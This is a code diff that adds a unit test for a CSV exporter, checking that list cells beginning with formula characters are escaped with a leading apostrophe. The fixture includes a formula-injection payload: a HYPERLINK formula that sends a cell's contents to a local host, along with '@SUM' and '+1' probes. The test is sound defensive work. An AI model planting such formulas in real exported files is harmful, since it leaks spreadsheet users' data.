@@ -211,6 +211,21 @@ describe('CSV', () => {
       '',
     ]);
   });
+  it('keeps a list cell a text when its first item would be a formula: another registry names the organisations in it', () => {
+    const csv = toCsv(
+      ['title', 'cooperating', 'words', 'open'],
+      [
+        { title: 'کارگروه مشترک', cooperating: [{ name: '=HYPERLINK("http://127.0.0.1:6199/?"&A2,"x")' }, { name: 'اتاق اصناف' }], words: ['+1', 'b'], open: true },
+        { title: '-', cooperating: { name: '@SUM(A1)' }, words: [], open: false },
+      ],
+    );
+    expect(csv.slice(1).split('\r\n')).toEqual([
+      'title,cooperating,words,open',
+      `کارگروه مشترک,"'=HYPERLINK(""http://127.0.0.1:6199/?""&A2,""x""); اتاق اصناف","'+1, b",true`,
+      "'-,'@SUM(A1),,false",
+      '',
+    ]);
+  });
 });
 
 describe('paging a connection for its download', () => {
